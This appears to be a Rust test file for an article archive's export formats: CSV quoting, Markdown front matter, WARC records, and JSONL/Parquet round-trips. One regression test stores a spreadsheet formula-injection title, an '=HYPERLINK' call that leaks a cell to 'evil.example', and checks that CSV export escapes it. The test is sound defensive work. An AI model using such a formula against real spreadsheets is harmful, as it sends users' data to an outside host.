//! Export formats on a small in-memory store: CSV quoting, Markdown layout,
//! WARC record layout, and a JSONL/CSV field drift check.

use super::*;
use crate::boilerplate::LineSettings;
use crate::extract::Article;
use crate::store::{AnyStore, KeptHeaders, KeptHtml, NewArticle, Store, WriteOp};

fn article_with_html(
    url: &str,
    title: &str,
    text: &str,
    page: Option<(Vec<u8>, KeptHeaders)>,
) -> NewArticle {
    NewArticle {
        url: url.into(),
        url_id: None,
        site: "a".into(),
        fetched_at: 1_000,
        article: Article {
            title: Some(title.into()),
            text: text.into(),
            ..Article::default()
        },
        lines: LineSettings {
            enabled: false,
            ..LineSettings::default()
        },
        html: page.map(|(body, headers)| KeptHtml::new(url, 200, headers, 1_000, &body).unwrap()),
    }
}

fn store_with(articles: Vec<NewArticle>) -> AnyStore {
    let mut store = AnyStore::from(Store::open_in_memory().unwrap());
    store
        .write_batch(articles.into_iter().map(WriteOp::Article).collect())
        .unwrap();
    store
}

fn export(store: &mut AnyStore, format: Format) -> (String, ExportSummary) {
    let mut out = Vec::new();
    let summary = write(store, &Selection::default(), format, &mut out).unwrap();
    (String::from_utf8_lossy(&out).into_owned(), summary)
}

#[test]
fn regression_csv_formula_cells_were_written_unchanged() {
    let mut a = article_with_html(
        "http://a.test/1",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "-2+3 is the sum.\nSecond line.",
        None,
    );
    a.article.site_name = Some("@evil".into());
    let b = article_with_html("http://a.test/2", "+1 for this", "\tTabbed.", None);
    let mut store = store_with(vec![a, b]);
    let (csv, _) = export(&mut store, Format::Csv);
    let rows: Vec<&str> = csv.split("\r\n").collect();
    assert!(
        rows[1].contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,"),
        "{csv}"
    );
    assert!(rows[1].contains(",'@evil,\"'-2+3 is the sum."), "{csv}");
    assert!(
        rows[2].contains(",'+1 for this,") && rows[2].contains(",'\tTabbed.,"),
        "{csv}"
    );
    assert!(rows[1].starts_with("1,http://a.test/1,a,"), "{csv}");
    // Asked for, the cells are written as stored.
    let (raw, _) = export(&mut store, Format::CsvRaw);
    assert!(
        raw.contains(",\"=HYPERLINK(") && raw.contains(",@evil,\"-2+3"),
        "{raw}"
    );
    assert!(!raw.contains('\''), "{raw}");
}

#[test]
fn csv_quotes_commas_quotes_and_line_breaks_per_rfc_4180() {
    let mut store = store_with(vec![article_with_html(
        "http://a.test/1",
        "Say \"hi\", world",
        "First line.\nSecond, with comma.",
        None,
    )]);
    let (csv, summary) = export(&mut store, Format::Csv);
    assert_eq!(summary.written, 1);
    let mut lines = csv.split("\r\n");
    assert_eq!(lines.next().unwrap(), FIELDS.join(","));
    let row = lines.collect::<Vec<_>>().join("\r\n");
    assert!(
        row.contains(",\"Say \"\"hi\"\", world\","),
        "title quoted, quotes doubled: {row}"
    );
    // The fields added after `method`: empty lists as `[]`, absent values
    // empty.
    assert!(
        row.ends_with(",\"First line.\nSecond, with comma.\",density,[],,,[],,\r\n"),
        "{row:?}"
    );
}

#[test]
fn markdown_opens_each_article_with_front_matter_title_heading_and_url() {
    let mut one = article_with_html("http://a.test/1", "One", "# Not a heading\nPlain.", None);
    one.article.authors = vec!["Jane Roe".into()];
    one.article.tags = vec!["Port".into(), "Ships".into()];
    let mut store = store_with(vec![
        one,
        article_with_html("http://a.test/2", "Two", "Text two.", None),
    ]);
    let (md, summary) = export(&mut store, Format::Markdown);
    assert_eq!((summary.written, summary.from_stored_text), (2, 2));
    assert_eq!(
        md,
        "---\ntitle: \"One\"\nurl: \"http://a.test/1\"\nsite: \"a\"\nauthors: [\"Jane Roe\"]\n\
         tags: [\"Port\",\"Ships\"]\n---\n\n\
         # One\n<http://a.test/1>\n\n\\# Not a heading\n\nPlain.\n\n\
         ---\ntitle: \"Two\"\nurl: \"http://a.test/2\"\nsite: \"a\"\n---\n\n\
         # Two\n<http://a.test/2>\n\nText two.\n\n"
    );
}

#[test]
fn warc_writes_kept_pages_and_counts_articles_without_one() {
    let headers = KeptHeaders {
        content_type: Some("text/html; charset=utf-8".into()),
        last_modified: None,
        etag: Some("\"abc\"".into()),
        date: Some("Thu, 26 Nov 2026 09:00:00 GMT".into()),
    };
    let mut store = store_with(vec![
        article_with_html(
            "http://a.test/1",
            "One",
            "Body one.",
            Some((b"<html><p>Body one.</p></html>".to_vec(), headers)),
        ),
        article_with_html("http://a.test/2", "Two", "Body two.", None),
    ]);
    let mut out = Vec::new();
    let summary = write(&mut store, &Selection::default(), Format::Warc, &mut out).unwrap();
    assert_eq!((summary.written, summary.skipped), (1, 1));
    // Two gzip members: warcinfo and the one response.
    let mut text = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::MultiGzDecoder::new(&out[..]), &mut text)
        .unwrap();
    let text = String::from_utf8(text).unwrap();
    assert_eq!(text.matches("WARC/1.1\r\n").count(), 2);
    assert!(text.contains("WARC-Type: response\r\n"));
    assert!(text.contains("WARC-Target-URI: http://a.test/1\r\n"));
    assert!(
        text.contains("WARC-Date: 1970-01-01T00:00:01Z\r\n"),
        "{text}"
    );
    assert!(text.contains("ETag: \"abc\"\r\n"));
    let payload = b"<html><p>Body one.</p></html>";
    assert!(text.contains(&format!(
        "WARC-Payload-Digest: {}\r\n",
        warc::sha1_base32(payload)
    )));
    assert!(text.contains(&format!("Content-Length: {}\r\n\r\n<html>", payload.len())));
}

#[test]
fn regression_export_printed_density_for_every_article_whatever_the_method() {
    let mut schema = article_with_html("http://a.test/1", "One", "Body one.", None);
    schema.article.method = crate::extract::Method::Schema;
    let mut fallback = article_with_html("http://a.test/2", "Two", "Body two.", None);
    fallback.article.method = crate::extract::Method::Fallback;
    let old = article_with_html("http://a.test/3", "Three", "Body three.", None);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("m.db");
    Store::open(&path)
        .unwrap()
        .write_batch(
            [schema, fallback, old]
                .into_iter()
                .map(WriteOp::Article)
                .collect(),
        )
        .unwrap();
    // An article stored before migration 0009 has no method recorded.
    rusqlite::Connection::open(&path)
        .unwrap()
        .execute(
            "UPDATE articles SET method = NULL WHERE url = 'http://a.test/3'",
            [],
        )
        .unwrap();
    let mut store = AnyStore::from(Store::open(&path).unwrap());
    let (jsonl, _) = export(&mut store, Format::Jsonl);
    let methods: Vec<serde_json::Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["method"].clone())
        .collect();
    assert_eq!(
        methods,
        [
            serde_json::json!("schema"),
            serde_json::json!("fallback"),
            serde_json::Value::Null
        ]
    );
    let (csv, _) = export(&mut store, Format::Csv);
    let ends: Vec<&str> = csv
        .split("\r\n")
        .skip(1)
        .filter(|r| !r.is_empty())
        .map(|r| {
            let from_end = FIELDS.len() - 1 - FIELDS.iter().position(|f| *f == "method").unwrap();
            r.rsplit(',').nth(from_end).unwrap()
        })
        .collect();
    assert_eq!(ends, ["schema", "fallback", ""]);
}

/// The Parquet file read back with the `parquet` crate's reader: one row per
/// article, each field of the JSONL record in a typed column.
fn parquet_rows(bytes: Vec<u8>) -> (usize, Vec<Vec<(String, ::parquet::record::Field)>>) {
    use ::parquet::file::reader::{FileReader, SerializedFileReader};
    let mut file = tempfile::tempfile().unwrap();
    std::io::Write::write_all(&mut file, &bytes).unwrap();
    let reader = SerializedFileReader::new(file).unwrap();
    let groups = reader.metadata().num_row_groups();
    let rows = reader
        .get_row_iter(None)
        .unwrap()
        .map(|row| {
            row.unwrap()
                .get_column_iter()
                .map(|(name, field)| (name.clone(), field.clone()))
                .collect()
        })
        .collect();
    (groups, rows)
}

fn instant_ms(json: &serde_json::Value) -> i64 {
    let s = json.as_str().unwrap_or_else(|| panic!("a time: {json}"));
    chrono::DateTime::parse_from_rfc3339(s)
        .unwrap()
        .timestamp_millis()
}

#[test]
fn parquet_round_trip_holds_the_jsonl_fields_as_typed_columns() {
    use ::parquet::record::Field;
    let mut full = article_with_html(
        "http://a.test/1",
        "Say \"hi\", 北京",
        "First line.\nSecond, 国务院.",
        None,
    );
    full.fetched_at = 1_764_000_000_123;
    full.article.authors = vec!["A. Writer".into(), "B. Writer".into()];
    full.article.tags = vec!["Harbour".into()];
    full.article.section = Some("Local".into());
    full.article.paywalled = Some(true);
    full.article.image = Some("http://a.test/lead.jpg".into());
    full.article.description = Some("The harbour, again.".into());
    full.article.published_at = Some("2019-09-05T11:10:00+02:00".into());
    full.article.modified_at = Some("2019-09-06T08:00:00Z".into());
    full.article.language = Some("eng".into());
    full.article.canonical_url = Some("http://a.test/one".into());
    full.article.site_name = Some("A".into());
    let mut bare = article_with_html("http://a.test/2", "", "Only text.", None);
    bare.article.title = None;
    let mut store = store_with(vec![full, bare]);

    let mut bytes = Vec::new();
    let summary = write(
        &mut store,
        &Selection::default(),
        Format::Parquet,
        &mut bytes,
    )
    .unwrap();
    assert_eq!(summary.written, 2);
    let (jsonl, _) = export(&mut store, Format::Jsonl);
    let records: Vec<serde_json::Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let (groups, rows) = parquet_rows(bytes);
    assert_eq!(groups, 1);
    assert_eq!(rows.len(), records.len());
    for (row, record) in rows.iter().zip(&records) {
        let names: Vec<&str> = row.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(names, FIELDS);
        for (name, field) in row {
            let json = &record[name.as_str()];
            match field {
                Field::Long(n) => assert_eq!(json.as_i64(), Some(*n), "{name}"),
                Field::Str(s) => assert_eq!(json.as_str(), Some(s.as_str()), "{name}"),
                Field::TimestampMillis(ms) => assert_eq!(instant_ms(json), *ms, "{name}"),
                Field::Null => assert!(json.is_null(), "{name}: {json}"),
                Field::Bool(b) => assert_eq!(json.as_bool(), Some(*b), "{name}"),
                Field::ListInternal(list) => {
                    let items: Vec<serde_json::Value> = list
                        .elements()
                        .iter()
                        .map(|e| match e {
                            Field::Str(s) => serde_json::json!(s),
                            other => panic!("{name}: unexpected element {other:?}"),
                        })
                        .collect();
                    assert_eq!(json.as_array(), Some(&items), "{name}");
                }
                other => panic!("{name}: unexpected column type {other:?}"),
            }
        }
    }
    // Typed: times are timestamps, counts integers.
    let first = &rows[0];
    let field = |name: &str| &first.iter().find(|(n, _)| n == name).unwrap().1;
    assert_eq!(
        field("fetched_at"),
        &Field::TimestampMillis(1_764_000_000_123)
    );
    assert_eq!(
        field("published_at"),
        &Field::TimestampMillis(instant_ms(&"2019-09-05T09:10:00Z".into()))
    );
    assert!(matches!(field("word_count"), Field::Long(n) if *n > 0));
    assert!(matches!(
        rows[1].iter().find(|(n, _)| n == "title").unwrap().1,
        Field::Null
    ));
}

/// A writer that tells how many bytes reached it so far.
struct Counting<'a> {
    seen: &'a std::cell::Cell<usize>,
    bytes: Vec<u8>,
}

impl std::io::Write for Counting<'_> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.seen.set(self.seen.get() + buf.len());
        self.bytes.extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[test]
fn parquet_row_groups_are_written_as_the_articles_stream() {
    let articles = (0..5)
        .map(|i| {
            let text = format!("Story number {i}.");
            article_with_html(&format!("http://a.test/{i}"), "T", &text, None)
        })
        .collect();
    let mut store = store_with(articles);
    let seen = std::cell::Cell::new(0);
    let mut out = Counting {
        seen: &seen,
        bytes: Vec::new(),
    };
    let mut file = parquet::ParquetWriter::new(&mut out)
        .unwrap()
        .with_max_rows(2);
    let mut pushed = 0;
    // Five distinct stories (equal texts would be stored once).
    store
        .export(&Selection::default(), &mut |a| {
            file.push(a)?;
            pushed += 1;
            // A full row group has left before the next article is read.
            assert_eq!(seen.get() > 0, pushed >= 2, "after {pushed} articles");
            Ok(())
        })
        .unwrap();
    file.finish().unwrap();
    assert_eq!(pushed, 5);
    let (groups, rows) = parquet_rows(out.bytes);
    assert_eq!(groups, 3);
    let urls: Vec<String> = rows
        .iter()
        .map(|r| match &r[1].1 {
            ::parquet::record::Field::Str(s) => s.clone(),
            other => panic!("{other:?}"),
        })
        .collect();
    let expected: Vec<String> = (0..5).map(|i| format!("http://a.test/{i}")).collect();
    assert_eq!(urls, expected);
}
